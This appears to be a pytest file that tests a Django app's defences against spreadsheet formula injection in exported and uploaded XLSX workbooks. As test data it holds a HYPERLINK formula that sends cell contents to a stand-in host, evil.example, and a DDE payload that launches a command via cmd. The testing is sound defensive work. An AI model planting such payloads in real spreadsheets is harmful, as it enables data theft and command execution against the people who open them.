"""Formula injection (issue 18.8): what a person typed is written to the needs workbooks and the summary XLSX as
text through `core.exports.spreadsheet_safe`, never as a live formula, and reads back as the person's text."""

import io

import pytest
from openpyxl import load_workbook

from tahub.needs import report, services
from tahub.needs.models import Cycle
from tahub.needs.selectors import analysis
from tests.accounts.cast import sign_in

from .test_workbook import download, stored, upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _cell_of(book, code):
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2, max_col=5):
            if row[0].value == code:
                return row[4]
    raise AssertionError(code)


def test_an_answer_starting_with_equals_is_text_in_the_workbook_and_round_trips(client, cycle, party_a, contact_a):
    services.save_answers(
        cycle=cycle, party=party_a, answers={"nip-text": HYPERLINK, "inventories-text": "-2 trainers, +1 lab"},
        by=contact_a,
    )  # fmt: skip
    sign_in(client, contact_a)

    book = download(client, cycle)

    cell = _cell_of(book, "nip-text")
    assert (cell.data_type, cell.value) == ("s", "'" + HYPERLINK)
    assert _cell_of(book, "inventories-text").value == "'-2 trainers, +1 lab"
    # Uploaded back unchanged: the person's own text, not the escaped one, and no "formula" refusal.
    reply = upload(client, cycle, book)
    assert reply.status_code == 302, reply.context and reply.context["problems"]
    answers = stored(cycle, party_a)
    assert (answers["nip-text"], answers["inventories-text"]) == (HYPERLINK, "-2 trainers, +1 lab")


def test_a_real_formula_typed_in_the_workbook_is_still_refused(client, cycle, contact_a):
    sign_in(client, contact_a)
    book = download(client, cycle)
    _cell_of(book, "nip-text").value = HYPERLINK  # openpyxl writes a string starting with "=" as a formula

    reply = upload(client, cycle, book)

    assert reply.status_code == 400
    assert "Formulas are not accepted" in " ".join(str(p) for p in reply.context["problems"])


def test_the_summary_workbook_escapes_every_cell(cycle, admin):
    Cycle.objects.filter(pk=cycle.pk).update(title="=cmd|' /C calc'!A0", period="+2026")
    cycle.refresh_from_db()

    book = load_workbook(io.BytesIO(report.build_xlsx(analysis.CycleAnalysis(cycle, [cycle]))))

    values = {row[0]: row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
    assert values["Cycle"] == "'=cmd|' /C calc'!A0" and values["Period covered"] == "'+2026"
    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []
    trend = book["trend"]
    assert trend.cell(2, 2).value == "'=cmd|' /C calc'!A0"  # the cycle's title as a column header
